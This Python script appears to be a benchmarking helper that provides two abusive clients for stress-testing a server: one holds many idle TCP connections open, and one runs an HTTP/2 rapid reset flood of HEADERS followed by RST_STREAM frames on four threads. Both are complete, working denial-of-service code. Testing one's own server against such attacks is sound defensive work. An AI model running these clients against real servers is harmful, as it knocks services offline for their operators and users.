#!/usr/bin/env python3
"""Abusive clients for bench/abuse.sh.

  abuse.py idle HOST:PORT N SECS     hold N idle TCP connections (reopened when closed)
  abuse.py reset HOST:PORT SECS      HTTP/2 rapid reset: HEADERS then RST_STREAM, as fast as
                                     possible, on 4 connections (needs the `h2` package)
Prints what it did on exit.
"""
import socket, sys, threading, time


def idle(addr, n, secs):
    host, port = addr.rsplit(":", 1)
    socks = []
    opened = 0
    end = time.time() + secs
    while time.time() < end:
        socks = [s for s in socks if alive(s)]
        while len(socks) < n:
            try:
                s = socket.create_connection((host, int(port)), timeout=2)
                s.setblocking(False)
                socks.append(s)
                opened += 1
            except OSError:
                break
        time.sleep(1)
    print("idle: %d held at the end, %d opened in all" % (len(socks), opened))


def alive(s):
    try:
        data = s.recv(1)
        if data == b"":
            s.close()
            return False
        return True
    except BlockingIOError:
        return True
    except OSError:
        return False


def reset(addr, secs):
    import h2.config
    import h2.connection
    import h2.errors

    host, port = addr.rsplit(":", 1)
    total = [0]
    end = time.time() + secs

    def one():
        while time.time() < end:
            try:
                s = socket.create_connection((host, int(port)), timeout=5)
                conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
                conn.initiate_connection()
                s.sendall(conn.data_to_send())
                s.setblocking(False)
                while time.time() < end:
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, [(":method", "GET"), (":path", "/1k.txt"),
                                            (":scheme", "http"), (":authority", "abuse.test")])
                    conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                    s.sendall(conn.data_to_send())
                    total[0] += 1
                    try:
                        data = s.recv(65536)
                        if data == b"":
                            break
                        conn.receive_data(data)
                        out = conn.data_to_send()
                        if out:
                            s.sendall(out)
                    except BlockingIOError:
                        pass
                    if sid > 2**30:
                        break
                s.close()
            except Exception:
                time.sleep(0.05)

    threads = [threading.Thread(target=one) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print("reset: %d streams opened and reset" % total[0])


if __name__ == "__main__":
    if sys.argv[1] == "idle":
        idle(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
    else:
        reset(sys.argv[2], float(sys.argv[3]))
